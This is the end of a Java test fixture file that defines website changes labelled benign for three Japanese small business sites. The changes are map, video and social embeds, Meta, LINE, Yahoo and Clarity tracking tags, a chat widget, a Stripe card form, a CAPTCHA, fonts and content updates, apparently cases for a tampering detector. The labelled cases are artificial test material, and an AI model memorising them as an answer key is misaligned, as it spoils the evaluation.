          + "土間と縁側のある平屋。</p></div>\n<div class=\"works\"><img src=\"images/works05.jpg\" alt=\"朝日村 リフォーム\" "
          + "width=\"280\" height=\"200\" /><h3>朝日村 H様邸（水まわりリフォーム）</h3><p>キッチンと浴室を一新。</p></div>");
      e.site.putLike("/works04.html", "/works.html", "<!-- InstanceBeginEditable name=\"main\" -->", "<!-- InstanceEndEditable"
          + " -->", "\n<h2>松本市 N様邸（平屋・28坪）</h2><p>薪ストーブと土間、南側に深い軒の縁側。断熱等級6。</p>"
          + "<p><img src=\"images/works04_2.jpg\" alt=\"室内\" width=\"600\" height=\"400\" /></p>\n");
    }));
    v.add(good(B, "embed", "[fresh7] Google map iframe added to the company page", e ->
        e.site.insertAfter("/company.html", "</table>", "\n<h3>アクセス</h3><iframe src=\"https://www.google.com/maps/embed?pb="
            + "!1m18!1m12!1m3!1d3213.5!2d137.93!3d36.22!2m3!1f0!2f0!3f0\" width=\"600\" height=\"300\" style=\"border:0;\" "
            + "allowfullscreen=\"\" loading=\"lazy\"></iframe>\n")));
    v.add(good(B, "content", "[fresh7] phone hours and the closed day changed in the header of every page", e ->
        e.site.replace("*", "（8:00〜18:00 日曜定休）", "（8:30〜17:30 日曜・祝日定休）")));
    v.add(good(B, "embed", "[fresh7] X (Twitter) timeline embedded on the blog page", e ->
        e.site.insertBefore("/blog.html", "<p><a href=\"index.html\">", "<a class=\"twitter-timeline\" data-height=\"500\" "
            + "href=\"https://twitter.com/takumi_koumuten?ref_src=twsrc%5Etfw\">Tweets by takumi_koumuten</a> <script async "
            + "src=\"https://platform.twitter.com/widgets.js\" charset=\"utf-8\"></script>\n")));
    v.add(good(B, "content", "[fresh7] a finished campaign banner hidden with display:none, its link to the city kept", e ->
        e.site.insertBefore("/", "<div class=\"bnr\"><a href=\"contact.html\">", "<div class=\"campaign\" style=\"display:none"
            + "\"><a href=\"http://www.city.matsumoto.nagano.jp/soshiki/sumai/reform-hojo.html\" target=\"_blank\">令和7年度 "
            + "リフォーム補助金の受付は終了しました</a></div>\n")));

    // ---- chaen (EC-CUBE)
    v.add(good(C, "tag", "[fresh7] Meta pixel added in the head", e -> e.site.insertBefore("*", "</head>", "<!-- Meta Pixel "
        + "Code -->\n<script>\n!function(f,b,e,v,n,t,s)\n{if(f.fbq)return;n=f.fbq=function(){n.callMethod?\nn.callMethod.apply"
        + "(n,arguments):n.queue.push(arguments)};\nif(!f._fbq)f._fbq=n;n.push=n;n.loaded=!0;n.version='2.0';\nn.queue=[];t=b."
        + "createElement(e);t.async=!0;\nt.src=v;s=b.getElementsByTagName(e)[0];\ns.parentNode.insertBefore(t,s)}(window, "
        + "document,'script',\n'https://connect.facebook.net/en_US/fbevents.js');\nfbq('init', '1187342265590013');\nfbq("
        + "'track', 'PageView');\n</script>\n<noscript><img height=\"1\" width=\"1\" style=\"display:none\"\nsrc=\"https://"
        + "www.facebook.com/tr?id=1187342265590013&ev=PageView&noscript=1\"\n/></noscript>\n<!-- End Meta Pixel Code -->\n")));
    v.add(good(C, "tag", "[fresh7] LINE Tag added in the head", e -> e.site.insertBefore("*", "</head>", "<!-- LINE Tag Base "
        + "Code -->\n<script>\n(function(g,d,o){\n  g._ltq=g._ltq||[];g._lt=g._lt||function(){g._ltq.push(arguments)};\n  var "
        + "h=location.protocol==='https:'?'https://d.line-scdn.net':'http://d.line-cdn.net';\n  var s=d.createElement('script');"
        + "s.async=1;\n  s.src=o||h+'/n/line_tag/public/release/v1/lt.js';\n  var t=d.getElementsByTagName('script')[0];t."
        + "parentNode.insertBefore(s,t);\n    })(window, document);\n_lt('init', {\n  customerType: 'lap',\n  tagId: "
        + "'6f2c1a9e-3b4d-4e5f-a6b7-c8d9e0f1a2b3'\n});\n_lt('send', 'pv', ['6f2c1a9e-3b4d-4e5f-a6b7-c8d9e0f1a2b3']);\n"
        + "</script>\n<!-- End LINE Tag Base Code -->\n")));
    v.add(good(C, "tag", "[fresh7] Yahoo! ads site-general tag added", e -> e.site.insertBefore("*", "</head>", "<script async "
        + "src=\"https://s.yimg.jp/images/listing/tool/cv/ytag.js\"></script>\n<script>\nwindow.yjDataLayer = window.yjDataLayer"
        + " || [];\nfunction ytag() { yjDataLayer.push(arguments); }\nytag({\"type\":\"ycl_cookie\"});\n</script>\n")));
    v.add(good(C, "content", "[fresh7] new product added: list entry and its detail page", e -> {
      e.site.insertBefore("/products/list", "</ul></div>", "<li class=\"ec-shelfGrid__item\"><a href=\"/products/detail/7\"><p>"
          + "<img src=\"/html/upload/save_image/wakocha.jpg\" alt=\"和紅茶 50g\"></p><p>和紅茶 50g</p><p class=\"price02-default"
          + "\">¥972</p></a></li>\n");
      e.site.put("/products/detail/7", e.site.text("/products/detail/3").replace("特上深蒸し茶 100g", "和紅茶 50g")
          .replace("¥1,620", "¥972").replace("value=\"3\"", "value=\"7\"").replace("/products/add_cart/3",
              "/products/add_cart/7").replace("tokujo100.jpg", "wakocha.jpg"));
    }));
    v.add(good(C, "payment", "[fresh7] Stripe Elements card form on the guest checkout (tokens, no card data posted)", e ->
        e.site.insertBefore("/shopping/nonmember", "<div class=\"ec-RegisterRole__actions\">", "<div class=\"ec-borderedDefs\">"
            + "<h2>クレジットカード</h2><div id=\"card-element\"></div><input type=\"hidden\" name=\"stripe_token\" id=\"stripe_"
            + "token\"></div>\n<script src=\"https://js.stripe.com/v3/\"></script>\n<script>var stripe=Stripe('pk_live_51Hc8"
            + "Yz2eZvKYlo2C0aBcDeF');var el=stripe.elements().create('card');el.mount('#card-element');</script>\n")));
    v.add(good(C, "chat", "[fresh7] Tawk.to chat widget on every page", e -> e.site.insertBefore("*", "</body>", "<!--Start of "
        + "Tawk.to Script-->\n<script type=\"text/javascript\">\nvar Tawk_API=Tawk_API||{}, Tawk_LoadStart=new Date();\n"
        + "(function(){\nvar s1=document.createElement(\"script\"),s0=document.getElementsByTagName(\"script\")[0];\ns1.async="
        + "true;\ns1.src='https://embed.tawk.to/6743a1b2c3d4e5f6a7b8c9d0/1id2k3l4m';\ns1.charset='UTF-8';\ns1.setAttribute("
        + "'crossorigin','*');\ns0.parentNode.insertBefore(s1,s0);\n})();\n</script>\n<!--End of Tawk.to Script-->\n")));
    v.add(good(C, "theme-update", "[fresh7] EC-CUBE 4.3 update: a new vendor script and changed template class names", e -> {
      e.site.put("/html/template/default/assets/js/vendor/spin.min.js", "!function(t,i){\"object\"==typeof exports?module."
          + "exports=i():t.Spinner=i()}(this,function(){function t(t){this.opts=t||{}}return t.prototype.spin=function(){"
          + "return this},t});");
      e.site.insertBefore("*", "<script src=\"/html/template/default/assets/js/function.js\">", "<script src=\"/html/template/"
          + "default/assets/js/vendor/spin.min.js\"></script>\n");
      e.site.replace("*", "ec-headerNaviRole", "ec-headerNaviRole ec-headerNaviRole--v43");
    }));
    v.add(good(C, "embed", "[fresh7] Instagram post embedded on the home page", e -> e.site.insertBefore("/",
        "<div class=\"ec-newsRole\">", "<blockquote class=\"instagram-media\" data-instgrm-permalink=\"https://www.instagram.com/"
            + "p/C9xYz12AbCd/?utm_source=ig_embed\" data-instgrm-version=\"14\"><a href=\"https://www.instagram.com/p/C9xYz12"
            + "AbCd/\">この投稿をInstagramで見る</a></blockquote>\n<script async src=\"//www.instagram.com/embed.js\"></script>\n")));

    // ---- iyashi (Jimdo-like)
    v.add(good(D, "embed", "[fresh7] Vimeo video of the clinic on the home page", e -> e.site.insertBefore("/",
        "<div id=\"cc-m-10007\"", "<div id=\"cc-m-10008\" class=\"j-module n j-video \"><iframe src=\"https://player.vimeo.com/"
            + "video/912345678?h=a1b2c3d4e5&amp;title=0&amp;byline=0\" width=\"640\" height=\"360\" frameborder=\"0\" allow="
            + "\"autoplay; fullscreen; picture-in-picture\" allowfullscreen></iframe></div>\n")));
    v.add(good(D, "captcha", "[fresh7] Cloudflare Turnstile added to the contact form", e -> {
      e.site.insertBefore("/contact/", "<div class=\"cc-m-form-submit\">", "<div class=\"cf-turnstile\" data-sitekey="
          + "\"0x4AAAAAAAB1cD2eF3gH4iJ5\" data-language=\"ja\"></div>\n");
      e.site.insertBefore("/contact/", "</body>", "<script src=\"https://challenges.cloudflare.com/turnstile/v0/api.js\" async "
          + "defer></script>\n");
    }));
    v.add(good(D, "platform", "[fresh7] the builder's asset file names change with a new cache key", e ->
        e.site.replace("*", "web.css.6f7e8d9c.css", "web.css.0a1b2c3d.css").replace("*", "web.js.3e4f5a6b.js",
            "web.js.7d8e9f0a.js").replace("*", "\"cacheJsKey\":\"9b1c2d3e\",\"cacheCssKey\":\"9b1c2d3e\"", "\"cacheJsKey\":"
                + "\"4c5d6e7f\",\"cacheCssKey\":\"4c5d6e7f\"").replace("*", "layout.css?t=1732012345",
                    "layout.css?t=1764656000")));
    v.add(good(D, "booking", "[fresh7] RESERVA booking calendar embedded on the access page", e -> e.site.insertAfter(
        "/access/", "<p>休診日：水曜午後・日曜・祝日</p>", "<h2>WEB予約</h2><iframe src=\"https://reserva.be/iyashiseikotsu/"
            + "reserve?mode=service_staff&amp;search_evt_no=32eJwzNDI0NTMBAAQvASg\" width=\"100%\" height=\"800\" "
            + "frameborder=\"0\"></iframe>")));
    v.add(good(D, "fonts", "[fresh7] Adobe Fonts kit added for headings", e -> e.site.insertBefore("*", "</head>", "<script>\n"
        + "  (function(d) {\n    var config = {\n      kitId: 'kxq3mfo',\n      scriptTimeout: 3000,\n      async: true\n    },"
        + "\n    h=d.documentElement,t=setTimeout(function(){h.className=h.className.replace(/\\bwf-loading\\b/g,\"\")+\" "
        + "wf-inactive\";},config.scriptTimeout),tk=d.createElement(\"script\"),f=false,s=d.getElementsByTagName(\"script\")"
        + "[0],a;h.className+=\" wf-loading\";tk.src='https://use.typekit.net/'+config.kitId+'.js';tk.async=true;tk.onload="
        + "tk.onreadystatechange=function(){a=this.readyState;if(f||a&&a!=\"complete\"&&a!=\"loaded\")return;f=true;"
        + "clearTimeout(t);try{Typekit.load(config)}catch(e){}};s.parentNode.insertBefore(tk,s)\n  })(document);\n"
        + "</script>\n")));
    v.add(good(D, "content", "[fresh7] new notice posted and the home page's notice line updated", e -> {
      e.site.insertAfter("/info/", "<div class=\"j-module n j-text \">", "<h3>2026/12/01　年末年始の診療について</h3><p>"
          + "12月29日〜1月3日は休診、1月4日（月）から通常どおり受付します。交通事故の急患はお電話ください。</p>");
      e.site.replace("/", "2026/11/28　12月の休診日を", "2026/12/01　年末年始の診療を");
    }));
    v.add(good(D, "tag", "[fresh7] Microsoft Clarity added through the builder's head field", e -> e.site.insertBefore("*",
        "</head>", "<script type=\"text/javascript\">\n    (function(c,l,a,r,i,t,y){\n        c[a]=c[a]||function(){(c[a]."
            + "q=c[a].q||[]).push(arguments)};\n        t=l.createElement(r);t.async=1;t.src=\"https://www.clarity.ms/tag/\"+i;"
            + "\n        y=l.getElementsByTagName(r)[0];y.parentNode.insertBefore(t,y);\n    })(window, document, \"clarity\", "
            + "\"script\", \"p9k3x7w2qa\");\n</script>\n")));
    return v;
  }
}
